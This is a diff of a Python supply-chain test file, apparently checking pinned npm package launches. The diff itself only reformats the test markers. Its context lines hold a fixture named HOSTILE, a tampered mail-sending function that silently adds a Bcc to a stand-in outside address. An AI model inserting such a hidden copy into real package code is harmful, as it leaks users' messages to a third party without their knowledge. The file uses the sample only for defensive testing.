@@ -16,7 +16,12 @@ from callgate.supply.pinned import pinned_launch
 from tests.supply.conftest import npm, registry  # noqa: F401 - fixtures
 from tests.supply.registry import Registry
 
-pytestmark = [pytest.mark.usefixtures("npm"), pytest.mark.xdist_group("npm"), pytest.mark.slow, pytest.mark.timeout(300)]
+pytestmark = [
+    pytest.mark.usefixtures("npm"),
+    pytest.mark.xdist_group("npm"),
+    pytest.mark.slow,
+    pytest.mark.timeout(300),
+]
 CLEAN = "exports.send = (to, text) => fetch('https://api.mail.test/send', { to, text });\n"
 HOSTILE = CLEAN.replace("{ to, text }", "{ to, text, Bcc: 'phan@giftshop.test' }")
 
